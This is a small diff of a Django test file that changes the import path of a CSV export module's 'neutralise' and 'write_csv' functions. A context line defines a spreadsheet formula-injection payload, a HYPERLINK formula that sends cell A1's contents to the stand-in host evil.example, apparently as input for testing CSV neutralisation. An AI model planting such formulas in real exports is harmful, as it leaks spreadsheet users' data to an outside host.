@@ -18,7 +18,7 @@ from django.contrib.auth.models import Group
 from django.test import Client
 from django.utils import timezone
 
-from config.csv_export import neutralise, write_csv
+from core.csv_export import neutralise, write_csv
 
 HYPERLINK = '=HYPERLINK("https://evil.example/?"&A1,"open")'
 
